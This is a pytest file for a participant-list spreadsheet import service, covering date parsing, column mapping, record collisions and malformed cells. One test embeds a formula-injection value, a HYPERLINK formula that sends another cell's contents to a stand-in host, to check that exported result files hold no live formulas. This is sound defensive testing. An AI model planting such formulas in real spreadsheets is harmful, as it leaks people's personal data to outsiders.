"""Found by the adversarial review of issue 20: each test states what a post would expect (each
failed before its fix)."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from openpyxl import Workbook
from sqlalchemy import select

from rumah_perisai.app import App
from rumah_perisai.db.models import Participant
from rumah_perisai.services.posts import PostSummary
from rumah_perisai.services.sheet_import import (
    Mapping,
    RowStatus,
    check,
    guess_mapping,
    import_checked,
    read_sheet,
)
from rumah_perisai.services.volunteers import Actor
from tests.services.test_sheet_import import DESA, nik


def book(path: Path, headers: list[str], rows: list[list[object]]) -> Path:
    wb = Workbook()
    ws = wb.active
    if headers:
        ws.append(headers)
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def people(app: App) -> list[Participant]:
    with app.db.reading() as session:
        return list(session.scalars(select(Participant).order_by(Participant.id)))


def test_month_first_birth_date_of_someone_born_after_2000_is_read_the_way_the_nik_says(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    # Same as the suite's "6/2/1983" case, but born in 2005: the NIK's hint is built as 1905.
    born = date(2005, 6, 2)
    path = book(
        tmp_path / "a.xlsx",
        ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa"],
        [[nik(born, "L", 1), "Andi Pratama", "6/2/2005", "L", DESA]],
    )
    sheet = read_sheet(path)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    assert result.rows[0].status is RowStatus.NEW, result.rows[0].reason


def test_a_month_first_registration_date_is_not_silently_read_day_first(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    # A Google Sheets export in US format: 12/25/2023 can only be month-first, so the column is
    # month-first; 03/04/2024 is then 4 March, not 3 April.
    path = book(
        tmp_path / "a.xlsx",
        ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa", "Tgl Daftar"],
        [
            [nik(date(1980, 3, 12), "L", 1), "Budi Santoso", "12-03-1980", "L", DESA, "12/25/2023"],
            [nik(date(1981, 4, 13), "L", 2), "Joko Susilo", "13-04-1981", "L", DESA, "03/04/2024"],
        ],
    )
    sheet = read_sheet(path)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    if result.rows[1].status is RowStatus.REFUSED:
        return  # refusing the ambiguous date (values.py's docstring) is also right
    import_checked(app.db, app.folder, result, coordinator, consent_confirmed=True)
    assert [p.registered_on for p in people(app)] == [date(2023, 12, 25), date(2024, 3, 4)]


def test_a_list_without_a_header_row_loses_nobody_silently(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    rows = [
        [nik(date(1980 + i, 3, 12), "L", i + 1), f"Orang {n}", date(1980 + i, 3, 12), "L", DESA]
        for i, n in enumerate(("Satu Budi", "Dua Joko", "Tiga Rudi"))
    ]
    sheet = read_sheet(book(tmp_path / "a.xlsx", [], rows))
    # The coordinator maps the columns by letter (--mapping {"A": "nik", "B": "name", ...}).
    mapping = Mapping(("nik", "name", "birth_date", "sex", "desa"))
    result = check(app.db, app.folder, sheet, mapping)
    # Three people in the file: each must be accounted for (a row status), none silently dropped.
    assert len(result.rows) == 3, (sheet.headers, [r.row for r in result.rows])


def test_a_nama_kelompok_column_before_nama_is_not_taken_for_the_name(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    path = book(
        tmp_path / "a.xlsx",
        ["No", "Nama Kelompok", "Nama", "NIK", "Tgl Lahir", "L/P", "Desa"],
        [[1, "Kelompok Nelayan Maju", "Budi Santoso", nik(date(1980, 3, 12), "L", 1),
          "12-03-1980", "L", DESA]],
    )  # fmt: skip
    sheet = read_sheet(path)
    mapping = guess_mapping(sheet)
    assert mapping.columns[2] == "name", mapping.columns


def test_a_row_whose_nik_is_here_as_someone_else_does_not_fill_their_record(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    born = date(1980, 3, 12)
    first = book(
        tmp_path / "a.xlsx", ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa"],
        [[nik(born, "L", 1), "Budi Santoso", "12-03-1980", "L", DESA]],
    )  # fmt: skip
    sheet = read_sheet(first)
    import_checked(app.db, app.folder, check(app.db, app.folder, sheet, guess_mapping(sheet)),
                   coordinator, consent_confirmed=True)  # fmt: skip
    # Another list, a typo'd NIK that is Budi's: a woman born 1991, with her own phone and heir.
    other = book(
        tmp_path / "b.xlsx",
        ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa", "No HP", "Ahli Waris"],
        [[nik(born, "L", 1), "Siti Aminah", "04-04-1991", "P", DESA, "081299998888",
          "Rahmat"]],
    )  # fmt: skip
    sheet = read_sheet(other)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    assert result.rows[0].status is not RowStatus.UPDATE, result.rows[0].reason


def test_filling_an_existing_record_keeps_the_forms_length_limits(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    born = date(1980, 3, 12)
    first = book(
        tmp_path / "a.xlsx", ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa"],
        [[nik(born, "L", 1), "Budi Santoso", "12-03-1980", "L", DESA]],
    )  # fmt: skip
    sheet = read_sheet(first)
    import_checked(app.db, app.folder, check(app.db, app.folder, sheet, guess_mapping(sheet)),
                   coordinator, consent_confirmed=True)  # fmt: skip
    # The volunteer's own list has the heir's relation as a note, longer than the form allows (30).
    later = book(
        tmp_path / "b.xlsx",
        ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa", "Ahli Waris", "Hubungan Ahli Waris"],
        [[nik(born, "L", 1), "Budi Santoso", "12-03-1980", "L", DESA, "Siti",
          "Istri (menikah 2001), tinggal serumah di Blok Kulon"]],
    )  # fmt: skip
    sheet = read_sheet(later)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    # Either said per row, or filled within the limit: never a crash at the import.
    import_checked(app.db, app.folder, result, coordinator, consent_confirmed=True)
    (budi,) = people(app)
    assert budi.heir_relation is None or len(budi.heir_relation) <= 30


def csv_file(path: Path, lines: list[str]) -> Path:
    path.write_bytes("\r\n".join(lines).encode("utf-8"))
    return path


def test_a_control_character_in_a_cell_does_not_crash_the_result_file(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    from rumah_perisai.printing.import_result import write_result

    path = csv_file(
        tmp_path / "a.csv",
        [
            "NIK;Nama;Tgl Lahir;L/P;Desa",
            f"{nik(date(1980, 3, 12), 'L', 1)};Budi\x07;12-03-1980;L;{DESA}",
        ],
    )
    sheet = read_sheet(path)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    write_result(tmp_path / "hasil.xlsx", result)  # IllegalCharacterError today


def test_the_result_file_never_turns_a_cell_of_the_list_into_a_live_formula(
    app: App, post: PostSummary, coordinator: Actor, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    from rumah_perisai.printing.import_result import write_result

    path = csv_file(
        tmp_path / "a.csv",
        ["NIK;Nama;Tgl Lahir;L/P;Desa;Alamat",
         f'{nik(date(1980, 3, 12), "L", 1)};Budi;12-03-1980;L;{DESA};=HYPERLINK("http://x/?"&C2,"klik")'],
    )  # fmt: skip
    sheet = read_sheet(path)
    write_result(tmp_path / "hasil.xlsx", check(app.db, app.folder, sheet, guess_mapping(sheet)))
    cells = [c for row in load_workbook(tmp_path / "hasil.xlsx").active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_nama_ibu_kandung_before_nama_is_not_taken_for_the_participants_name(
    tmp_path: Path,
) -> None:
    path = csv_file(
        tmp_path / "a.csv",
        ["NIK;Nama Ibu Kandung;Nama;Tgl Lahir;L/P;Desa",
         f"{nik(date(1980, 3, 12), 'L', 1)};Siti;Budi Santoso;12-03-1980;L;{DESA}"],
    )  # fmt: skip
    assert guess_mapping(read_sheet(path)).columns[1:3] == (None, "name")


def test_a_vertical_tab_inside_a_csv_cell_does_not_split_the_row_and_shift_row_numbers(
    tmp_path: Path,
) -> None:
    path = csv_file(
        tmp_path / "a.csv",
        ["NIK;Nama;Tgl Lahir;L/P;Desa",
         f"{nik(date(1980, 3, 12), 'L', 1)};Budi\x0bSantoso;12-03-1980;L;{DESA}",
         f"{nik(date(1981, 4, 13), 'L', 2)};Joko;13-04-1981;L;{DESA}"],
    )  # fmt: skip
    assert [row.number for row in read_sheet(path).rows] == [2, 3]


def test_an_infinite_income_in_a_workbook_is_a_row_reason_not_a_crash(
    app: App, post: PostSummary, tmp_path: Path
) -> None:
    import zipfile

    source = book(
        tmp_path / "src.xlsx", ["NIK", "Nama", "Tgl Lahir", "L/P", "Desa", "Penghasilan"],
        [[nik(date(1980, 3, 12), "L", 1), "Budi", "12-03-1980", "L", DESA, 12345]],
    )  # fmt: skip
    target = tmp_path / "inf.xlsx"
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            zout.writestr(item, data.replace(b"<v>12345</v>", b"<v>1E999</v>"))
    sheet = read_sheet(target)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))  # OverflowError today
    assert result.rows[0].status is RowStatus.REFUSED


def test_an_optional_cell_holding_only_a_space_is_empty_not_a_refusal(
    app: App, post: PostSummary, tmp_path: Path
) -> None:
    path = csv_file(
        tmp_path / "a.csv",
        ["NIK;Nama;Tgl Lahir;L/P;Desa;Tgl Daftar;Penghasilan",
         f"{nik(date(1980, 3, 12), 'L', 1)};Budi;12-03-1980;L;{DESA}; ; "],
    )  # fmt: skip
    sheet = read_sheet(path)
    result = check(app.db, app.folder, sheet, guess_mapping(sheet))
    assert result.rows[0].status is RowStatus.NEW, result.rows[0].reason
